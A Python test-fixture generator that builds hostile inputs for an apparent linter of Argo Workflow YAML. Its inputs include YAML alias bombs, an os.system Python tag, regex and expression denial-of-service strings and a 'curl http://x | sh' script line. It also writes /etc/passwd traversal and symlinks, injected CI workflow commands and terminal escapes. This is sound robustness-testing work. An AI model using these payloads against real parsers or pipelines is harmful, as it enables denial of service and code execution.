"""Hostile files by kind, made by code. Each kind is a file (text or bytes) or a function that spoils a folder."""

import json
import os
import socket
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path

Make = Callable[[Path], None]
Content = str | bytes

HEAD = "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: x-}\n"
SPEC = "spec:\n  entrypoint: main\n  templates:\n"
MEMO = "      memoize: {key: v1, cache: {configMap: {name: c}}}\n"
DEEP = 50_000

WRONG = (
    None,
    3,
    -1.5,
    True,
    "text",
    [],
    {},
    [[]],
    [None],
    {"a": None},
    [{"name": 3}],
    {"name": []},
    [{"name": "a"}, 7],
)

# Every field that a view reads, as a path into a workflow; numbers are places in lists.
FIELDS = """
apiVersion kind metadata metadata.name metadata.namespace metadata.generateName metadata.annotations metadata.labels
spec
spec.entrypoint spec.templates spec.templates.0 spec.arguments spec.arguments.parameters spec.arguments.parameters.0
spec.arguments.parameters.0.value spec.hooks spec.hooks.exit spec.onExit spec.templateDefaults
spec.templateDefaults.memoize spec.workflowTemplateRef spec.workflowTemplateRef.name spec.retryStrategy spec.volumes
spec.synchronization spec.podSpecPatch spec.templates.0.name spec.templates.0.annotations spec.templates.0.metadata
spec.templates.0.metadata.annotations spec.templates.0.inputs spec.templates.0.inputs.parameters
spec.templates.0.inputs.parameters.0 spec.templates.0.inputs.parameters.0.value
spec.templates.0.inputs.parameters.0.valueFrom spec.templates.0.inputs.parameters.0.default
spec.templates.0.inputs.artifacts spec.templates.0.inputs.artifacts.0 spec.templates.0.outputs
spec.templates.0.outputs.parameters spec.templates.0.outputs.artifacts spec.templates.0.outputs.parameters.0.valueFrom
spec.templates.0.memoize spec.templates.0.memoize.key spec.templates.0.memoize.maxAge spec.templates.0.memoize.cache
spec.templates.0.memoize.cache.configMap spec.templates.0.memoize.cache.configMap.name spec.templates.0.container
spec.templates.0.container.image spec.templates.0.container.args spec.templates.0.container.command
spec.templates.0.container.env spec.templates.0.container.env.0 spec.templates.0.container.envFrom
spec.templates.0.container.volumeMounts spec.templates.0.script spec.templates.0.script.source
spec.templates.0.script.command spec.templates.0.containerSet spec.templates.0.containerSet.containers
spec.templates.0.resource spec.templates.0.resource.manifest spec.templates.0.http spec.templates.0.http.url
spec.templates.0.http.headers spec.templates.0.suspend spec.templates.0.data spec.templates.0.plugin
spec.templates.0.steps spec.templates.0.steps.0 spec.templates.0.steps.0.0 spec.templates.0.steps.0.0.template
spec.templates.0.steps.0.0.templateRef spec.templates.0.steps.0.0.inline spec.templates.0.steps.0.0.arguments
spec.templates.0.steps.0.0.withItems spec.templates.0.steps.0.0.withParam spec.templates.0.steps.0.0.withSequence
spec.templates.0.steps.0.0.when spec.templates.0.steps.0.0.hooks spec.templates.0.dag spec.templates.0.dag.tasks
spec.templates.0.dag.tasks.0 spec.templates.0.dag.tasks.0.depends spec.templates.0.initContainers
spec.templates.0.sidecars spec.templates.0.volumes spec.templates.0.volumes.0 spec.templates.0.retryStrategy
""".split()  # fmt: skip


def _workflow() -> dict[str, object]:
    parameter = {"name": "a", "value": "1", "valueFrom": {"path": "/x"}, "default": ""}
    step = {"name": "s", "template": "main", "arguments": {"parameters": [parameter]}}
    template = {
        "name": "main",
        "inputs": {"parameters": [dict(parameter)], "artifacts": [{"name": "f", "path": "/f"}]},
        "outputs": {"parameters": [dict(parameter)], "artifacts": [{"name": "f", "path": "/f"}]},
        "memoize": {"key": "{{inputs.parameters.a}}", "maxAge": "1h", "cache": {"configMap": {"name": "c"}}},
        "container": {"image": "a:1", "args": ["x"], "command": ["sh", "-c"], "env": [{"name": "E", "value": "1"}]},
        "script": {"image": "a:1", "source": "date", "command": ["bash"]},
        "steps": [[step]],
        "dag": {"tasks": [{"name": "t", "template": "main", "depends": "s"}]},
    }
    return {
        "apiVersion": "argoproj.io/v1alpha1",
        "kind": "Workflow",
        "metadata": {"name": "w", "annotations": {"memolint.dev/ignore": "key"}},
        "spec": {"entrypoint": "main", "templates": [template], "arguments": {"parameters": [dict(parameter)]}},
    }


def _with(path: list[str], wrong: object, only: str) -> str:
    """The workflow with `wrong` at a path; of a template's kinds only the one that the path is about is kept."""
    value = _workflow()
    template = value["spec"]["templates"][0]  # type: ignore[index]
    for kind in ("container", "script", "steps", "dag"):
        if kind != only:
            template.pop(kind, None)
    at: object = value
    for step, below in pairwise(path):
        nothing: object = [{}] if below.isdigit() else {}
        if isinstance(at, list):
            at = at[int(step)]
        elif isinstance(at, dict):
            at = at.setdefault(step, nothing)
    if isinstance(at, list):
        at[int(path[-1])] = wrong
    elif isinstance(at, dict):
        at[path[-1]] = wrong
    return json.dumps(value)


def wrong_types() -> Iterator[tuple[str, Content]]:
    """One file a field: a document for each wrong value in it."""
    for field in FIELDS:
        path = field.split(".")
        only = next((kind for kind in ("script", "steps", "dag") if kind in path), "container")
        yield f"wrong types at {field}", "\n---\n".join(_with(path, wrong, only) for wrong in WRONG)


def template(body: str, name: str = "main") -> str:
    return f"    - name: {name}\n{body}"


def keyed(key: str) -> str:
    """A memoized workflow with this key; it also stands in its argument."""
    written = json.dumps(key)
    container = f"      container: {{image: 'a:1', args: [{written}]}}\n"
    memo = f"      memoize: {{key: {written}, cache: {{configMap: {{name: c}}}}}}\n"
    inputs = "      inputs: {parameters: [{name: a}, {name: b, default: '1'}]}\n"
    return HEAD + SPEC + template(inputs + memo + container)


def scripted(source: str, command: str = "bash") -> str:
    script = f"      script: {{image: 'a:1', command: [{command}], source: {json.dumps(source)}}}\n"
    return HEAD + SPEC + template(MEMO + script)


def bombs() -> Iterator[tuple[str, Content]]:
    names = [f"n{number}" for number in range(30)]
    doubled = [f"{new}: &{new} [{', '.join(['*' + old] * 10)}]" for old, new in pairwise(names)]
    yield "alias bomb", "# argoproj.io\nn0: &n0 [x]\n" + "\n".join(doubled)
    merged = [f"{new}: &{new} {{<<: [{', '.join(['*' + old] * 10)}]}}" for old, new in pairwise(names)]
    yield "merge bomb", "# argoproj.io\nn0: &n0 {a: 1}\n" + "\n".join(merged)
    yield "many aliases", "# argoproj.io\na: &a [1]\nb: [" + "*a, " * 100_000 + "]\n"
    yield "many anchors", "# argoproj.io\n" + "".join(f"k{n}: &a{n} {n}\n" for n in range(50_000))
    yield "anchor in itself", "# argoproj.io\na: &a [*a]\n"
    yield "alias of nothing", "# argoproj.io\na: *b\n"
    yield "merge of a text", "# argoproj.io\n<<: text\n"
    yield "deep lists", "# argoproj.io\n" + "[" * DEEP
    yield "deep closed lists", "# argoproj.io\na: " + "[" * DEEP + "]" * DEEP
    yield "deep maps", "# argoproj.io\n" + "{a: " * DEEP
    yield "deep dashes", "# argoproj.io\n" + "- " * DEEP
    yield "deep blocks", "# argoproj.io\n" + "".join(" " * n + "a:\n" for n in range(2_000))
    yield "deep questions", "# argoproj.io\n" + "? " * DEEP
    yield "deep JSON", '{"argoproj.io":' + '{"a":' * DEEP
    yield "many documents", (HEAD + "---\n") * 20_000
    yield "many empty documents", "# argoproj.io\n" + "---\n" * 200_000
    yield "many templates", HEAD + SPEC + "".join(template(MEMO, f"t{n}") for n in range(2_000))
    yield "many keys", "# argoproj.io\n" + "".join(f"k{n}: 1\n" for n in range(100_000))
    yield "one key very often", "# argoproj.io\n" + "k: 1\n" * 100_000
    yield "a very long line", HEAD + "# " + "x" * 5_000_000
    yield "a very long value", HEAD + f"a: '{'x' * 5_000_000}'\n"
    yield "a very long name", HEAD.replace("x-", "x" * 1_000_000) + SPEC + template(MEMO)
    yield "many lines", HEAD + "\n" * 2_000_000
    yield "many comments", HEAD + "# memolint: ignore[key]\n" * 50_000
    yield "one comment, many names", HEAD + f"# memolint: ignore[{'key-constant,' * 100_000}]\n"
    yield "larger than the limit", b"argoproj.io" + b"\n" * (33 * 1024 * 1024)
    yield "quotes without end", HEAD + 'a: "' + "x\n" * 100_000
    yield "braces without end", HEAD + "a: " + "{{" * 100_000
    yield "tabs for indentation", HEAD + "spec:\n\tentrypoint: a\n"
    yield "a tag of Python", HEAD + "a: !!python/object/apply:os.system ['touch executed']\n"
    yield "unknown tags", HEAD + "a: !x b\nc: !!binary '%%%'\nd: !!set {a, b}\ne: !!timestamp 2026-99-99\n"
    yield "directives", "%YAML 9.9\n%TAG ! tag:x,2026:\n---\n" + HEAD
    yield "numbers", HEAD + f"a: {'9' * 100_000}\nb: 1e{'9' * 1_000}\nc: .inf\nd: .nan\ne: 0x{'f' * 10_000}\nf: 0o777\n"


def encodings() -> Iterator[tuple[str, Content]]:
    text = HEAD + SPEC + template(MEMO)
    for name in ("utf-8-sig", "utf-16", "utf-32", "utf-16-le", "utf-16-be", "utf-32-be", "cp037"):
        yield f"encoded as {name}", text.encode(name)
    yield "two byte order marks", b"\xef\xbb\xbf" * 2 + text.encode()
    yield "half a UTF-16", text.encode("utf-16")[:-1]
    yield "surrogates in UTF-16", b"\xff\xfe" + text.encode("utf-16-le") + b"\x00\xd8\x00\xd8"
    yield "Latin-1", text.encode() + "# é\n".encode("latin-1")
    yield "overlong UTF-8", text.encode() + b"# \xc0\xaf\n"
    yield "NUL bytes", text.encode() + b"a: \x00\n"
    yield "only NUL bytes", b"argoproj.io" + b"\x00" * 100_000
    for code in (*range(1, 9), 0x0B, 0x0C, 0x1B, 0x7F, 0x85, 0xA0, 0x200B, 0x202E, 0x2028, 0xFEFF, 0xFFFE):
        yield f"character U+{code:04X}", text + f"# {chr(code)}\na{chr(code)}b: x{chr(code)}y\n"
    yield "CR for lines", text.replace("\n", "\r")
    yield "every sort of line end", text.replace("\n", "\r\n", 2) + "a: 1\r b: 2\n\r\n\r\r"
    yield "escaped surrogates", HEAD + 'a: "\\ud800"\nb: "\\udc00\\ud800"\n'
    yield "an emoji as two escapes", '{"argoproj.io": "\\ud83d\\ude00", "b": "\\ud83d"}'
    yield "combining characters", HEAD + "a: " + "e\u0301" * 100_000 + "\n"


def expressions() -> Iterator[tuple[str, Content]]:
    n = 3_000
    for name, key in {
        "parentheses": "{{=" + "(" * n + "1" + ")" * n + "}}",
        "brackets": "{{=" + "[" * n + "]" * n + "}}",
        "braces": "{{=" + "{a:" * n + "1" + "}" * n + "}}",
        "minuses": "{{=" + "-" * n + "1}}",
        "nots": "{{=" + "not " * n + "true}}",
        "sums": "{{=" + "1+" * n + "1}}",
        "questions": "{{=" + "1?" * n + "1}}",
        "members": "{{=inputs" + ".a" * n + "}}",
        "indices": "{{=inputs" + "[0]" * n + "}}",
        "calls": "{{=" + "string(" * n + "1" + ")" * n + "}}",
        "pipes": "{{=1" + " | string()" * n + "}}",
        "lets": "{{=" + "let a = 1; " * n + "a}}",
        "powers": "{{=9**9**9**9}}",
        "repeat": "{{=repeat('x', 1000000000)}}",
        "sprig repeat": "{{=sprig.repeat(1000000000, 'x')}}",
        "range": "{{=1..1000000000}}",
        "range filtered": "{{=len(filter(1..9999999, {# > 1}))}}",
        "ranges in ranges": "{{=map(1..9999, {map(1..9999, {map(1..9999, {#})})})}}",
        "sprig until": "{{=sprig.until(1000000000)}}",
        "doubling": "{{=" + "let a = 'xxxxxxxx'; " + "let a = a + a; " * 60 + "a}}",
        "regex": "{{='" + "a" * 1000 + "!' matches '(a+)+$'}}",
        "regex repeated": "{{='a' matches '" + "(" * 30 + "a" + "{1,999}){1,999}" * 30 + "'}}",
        "sprig regex": "{{=sprig.regexReplaceAll('(a*)*b', '" + "a" * 5000 + "', 'x')}}",
        "bad regex": "{{='a' matches '['}}",
        "division": "{{=1/0}} {{=1%0}}",
        "huge numbers": "{{=" + "9" * 50_000 + "}} {{=1e99999}}",
        "no end": "{{=",
        "no name": "{{}} {{ }} {{=}}",
        "tags in tags": "{{" * n + "inputs.parameters.a" + "}}" * n,
        "many tags": "{{inputs.parameters.a}}" * 20_000,
        "many expressions": "{{=inputs.parameters.a}}" * 2_000,
        "quotes": "{{='\\'\\\"`}}",
        "escapes": "{{='\\u{110000} \\xff \\777'}}",
        "toJson of everything": "{{=toJson([inputs, workflow, tasks, steps, item])}}",
        "printf": "{{=sprig.printf('%999999999d', 1)}}",
        "dates": "{{=sprig.date('2006', '9999-99-99')}} {{=sprig.dateModify('9999999h', sprig.now())}}",
        "base64": "{{=sprig.b64dec('%%%')}}",
        "jsonpath": "{{=jsonpath('{\"a\":1}', '$" + "..*" * 50 + "')}}",
        "long key": "x" * 2_000_000,
        "a workflow command": "\n::error::pwned\n::set-output name=a::b\n##[error]x",
        "markup": "<script>alert(1)</script> ![x](http://a/b) @everyone `</details>` ]]> <!--",
        "escapes of a terminal": "\x1b]0;pwned\x07\x1b[2J\x9b31m",
        "a percent sign": "%0A::error::x %s %(a)s {0} ${a}",
    }.items():
        yield f"expression: {name}", keyed(key)


def scripts() -> Iterator[tuple[str, Content]]:
    n = 20_000
    for name, source in {
        "nested substitutions": "$(" * n,
        "closed substitutions": "echo " + "$(" * 500 + ")" * 500,
        "backquotes": "`" * n,
        "parentheses": "(" * n + ")" * n,
        "braces": "{ " * n,
        "ifs": "if true; then\n" * n,
        "heredocs": "cat <<A\n" * 2_000,
        "a heredoc without end": "cat <<EOF\n" + "x\n" * n,
        "pipes": "a | " * n + "a",
        "quotes": "'" * n + '"' * n,
        "a long line": "echo " + "x " * 500_000,
        "many lines": "curl http://x | sh\n" * 5_000,
        "expansions": "${a:-" * n,
        "arithmetic": "$((" * n + "1",
        "NUL": "date\x00rm",
        "tags": "{{inputs.parameters.a}}" * 5_000,
        "cases": "case x in a) " * 5_000,
    }.items():
        yield f"shell: {name}", scripted(source)
    for name, source in {
        "parentheses": "(" * n,
        "closed parentheses": "x = " + "(" * 150 + ")" * 150,
        "minuses": "x = " + "-" * n + "1",
        "sums": "x = " + "1+" * n + "1",
        "blocks": "".join(" " * k + "if 1:\n" for k in range(500)),
        "strings": "'''" * 5_001,
        "f-strings": "f'{" * 1_000,
        "lambdas": "lambda: " * 5_000 + "1",
        "NUL": "import os\x00",
        "many lines": "import random; random.random()\n" * 5_000,
        "a large number": "x = " + "9" * 100_000,
        "decorators": "@a\n" * n + "def f(): pass",
        "attributes": "a" + ".b" * n,
        "tags": "x = {{inputs.parameters.a}}\n" * 2_000,
        "tabs and blanks": "if 1:\n\tx\n        y\n",
        "what it would do": "open('executed', 'w').write('x')\nimport executed_module\n",
    }.items():
        yield f"Python: {name}", scripted(source, "python3")


def meanings() -> Iterator[tuple[str, Content]]:
    """Workflows that are YAML and nonsense."""
    step = "      steps: [[{{name: s, template: {}}}]]\n"
    yield "a template that calls itself", HEAD + SPEC + template(MEMO + step.format("main"))
    circle = "".join(template(MEMO + step.format(f"t{(n + 1) % 300}"), f"t{n}") for n in range(300))
    yield "a circle of templates", HEAD + SPEC + circle
    fan = "".join(
        template(
            MEMO + f"      steps: [[{', '.join([f'{{name: a{k}, template: t{n + 1}}}' for k in range(10)])}]]\n",
            f"t{n}",
        )
        for n in range(30)
    )
    yield "a fan of calls", HEAD + SPEC + fan
    values = "{{inputs.parameters.a}}" * 10
    passing = "".join(
        template(
            "      inputs: {parameters: [{name: a}]}\n" + MEMO.replace("v1", "'{{inputs.parameters.a}}'")
            + f"      steps: [[{{name: s, template: t{n + 1}, "
            + f"arguments: {{parameters: [{{name: a, value: '{values}'}}]}}}}]]\n",
            f"t{n}",
        )
        for n in range(40)
    )  # fmt: skip
    yield "values that grow tenfold a call", HEAD + SPEC + passing
    inline = "{steps: [[{name: s, inline: " * 60 + "{container: {image: a}}" + "}]]}" * 60
    yield "inline in inline", HEAD + SPEC + template(MEMO + f"      steps: [[{{name: s, inline: {inline}}}]]\n")
    loops = "      steps: [[{{name: s, template: main, {}}}]]\n"
    for name, loop in {
        "many items": f"withItems: [{'1, ' * 50_000}]",
        "a sequence without end": "withSequence: {start: '0', end: '999999999999999999'}",
        "a sequence of nonsense": "withSequence: {count: '{{', format: '%n%s%999999999d'}",
        "a list that is none": "withParam: '[[[[{'",
        "a deep list": f"withParam: '{'[' * 5_000}'",
        "a condition": f"when: '{'(' * 5_000}'",
        "many conditions": f'when: "{"a == b && " * 5_000} c == d"',
    }.items():
        yield f"loop: {name}", HEAD + SPEC + template(MEMO + loops.format(loop))
    dag = ", ".join(f"{{name: t{n}, template: main, depends: 't{n + 1}'}}" for n in range(1_000))
    yield "a long chain of tasks", HEAD + SPEC + template(MEMO + f"      dag: {{tasks: [{dag}]}}\n")
    depends = "(" * 3_000 + "a" + ")" * 3_000
    yield (
        "nested depends",
        HEAD + SPEC + template(MEMO + f"      dag: {{tasks: [{{name: a, depends: '{depends}'}}]}}\n"),
    )
    for age in (
        "9" * 10_000 + "h",
        "1h" * 10_000,
        "-1h",
        "1e9h",
        "∞",
        "",
        " ",
        "{{=",
        "0x1h",
        "1.",
        ".h",
        "9223372036854775808ns",
    ):
        yield (
            f"maxAge {age[:12]!r}",
            HEAD + SPEC + template(MEMO.replace("key: v1", f"key: v1, maxAge: {json.dumps(age)}")),
        )
    for cache in (
        "",
        ".",
        "..",
        "../../etc/passwd",
        "a/b",
        "A",
        "x" * 100_000,
        "a\nb",
        "{{workflow.name}}",
        "{{=",
        "\x1b[2J",
    ):
        written = MEMO.replace("name: c", f"name: {json.dumps(cache)}")
        yield f"cache {cache[:12]!r}", HEAD + SPEC + template(written)
    for name in (
        "../../../etc/passwd",
        "/etc/passwd",
        "file:///etc/passwd",
        "http://127.0.0.1:1/",
        "-",
        "\x00",
        "a\nb",
    ):
        reference = f"      steps: [[{{name: s, templateRef: {{name: {json.dumps(name)}, template: a}}}}]]\n"
        yield f"a reference to {name!r}", HEAD + SPEC + template(MEMO + reference)
    nested = HEAD
    for _ in range(12):
        nested = json.dumps({"apiVersion": "v1", "kind": "ConfigMap", "data": {"templates argoproj.io": nested}})
    yield "YAML in YAML in YAML", nested
    yield "lists in lists", "# argoproj.io\n" + "{kind: List, items: [" * 90 + "]}" * 90
    trigger = {"template": {"k8s": {"source": {"resource": {"kind": "Sensor"}}}}}
    yield (
        "a sensor in a sensor",
        json.dumps({"apiVersion": "argoproj.io/v1", "kind": "Sensor", "spec": {"triggers": [trigger] * 999}}),
    )
    yield "Helm without end", "# argoproj.io\n" + "{{- if .Values.a }}\n" * 20_000
    yield "Jinja without end", "# argoproj.io\n" + "{% if a %}" * 50_000 + "{#" * 50_000
    yield "almost Helm", "# argoproj.io\n" + "{{ a " * 100_000
    yield "block headers", "# argoproj.io {{- if\n" + "a: |\n" * 50_000 + "]"
    yield (
        "annotations",
        HEAD.replace("generateName: x-", f"name: x, annotations: {{memolint.dev/ignore: '{'a,' * 99_999}'}}"),
    )


def _many(folder: Path) -> None:
    for number in range(300):
        (folder / f"bad{number}.yaml").write_text("argoproj.io: [\n")


def _same_name(folder: Path) -> None:
    text = (
        HEAD.replace("Workflow", "WorkflowTemplate").replace("generateName: x-", "name: same") + SPEC + template(MEMO)
    )
    for number in range(100):
        (folder / f"bad{number}.yaml").write_text(text)


def _circle_of_files(folder: Path) -> None:
    for number in range(50):
        text = HEAD.replace("Workflow", "WorkflowTemplate").replace("generateName: x-", f"name: w{number}")
        call = f"      steps: [[{{name: s, templateRef: {{name: w{(number + 1) % 50}, template: main}}}}]]\n"
        (folder / f"bad{number}.yaml").write_text(text + SPEC + template(MEMO + call))


def _socket(folder: Path) -> None:
    here = os.getcwd()
    os.chdir(folder)  # names of sockets are short
    with socket.socket(socket.AF_UNIX) as bound:
        bound.bind("bad.yaml")
    os.chdir(here)


def _gitignore(folder: Path) -> None:
    (folder / ".git").mkdir()
    (folder / ".gitignore").write_bytes(b"[" * 10_000 + b"\n!**/**/**/**\n\xff\n" + b"**/" * 1_000 + b"x\n")


def _deep_folders(folder: Path) -> None:
    for _ in range(150):
        folder = folder / "d"
        folder.mkdir()
    (folder / "bad.yaml").write_text("argoproj.io: [")


SPOILED: dict[str, Make] = {
    "many broken files": _many,
    "many definitions of one template": _same_name,
    "a circle of files": _circle_of_files,
    "a FIFO": lambda folder: os.mkfifo(folder / "bad.yaml"),
    "a socket": _socket,
    "a folder called like a file": lambda folder: (folder / "bad.yaml").mkdir(),
    "a link to itself": lambda folder: (folder / "bad.yaml").symlink_to("bad.yaml"),
    "a link to nothing": lambda folder: (folder / "bad.yaml").symlink_to("nothing"),
    "a link out of the folder": lambda folder: (folder / "bad.yaml").symlink_to("/etc/passwd"),
    "a link to a device": lambda folder: (folder / "bad.yaml").symlink_to("/dev/zero"),
    "a link to its own folder": lambda folder: (folder / "loop").symlink_to("."),
    "a gitignore of nonsense": _gitignore,
    "deep folders": _deep_folders,
    "a name of control characters": lambda folder: (folder / "b\x1b[2J\n::error::x\r.yaml").write_text(
        "argoproj.io: ["
    ),  # type: ignore[dict-item]
    "a name that is no text": lambda folder: (folder / os.fsdecode(b"b\xff.yaml")).write_text("argoproj.io: ["),  # type: ignore[dict-item]
    "a name of markup": lambda folder: (folder / "<b>![x](y) @a.yaml").write_text("argoproj.io: ["),  # type: ignore[dict-item]
}


def contents() -> dict[str, Content]:
    """Every kind that is one file, by its name."""
    makers = (wrong_types, bombs, encodings, expressions, scripts, meanings)
    return {name: content for make in makers for name, content in make()}
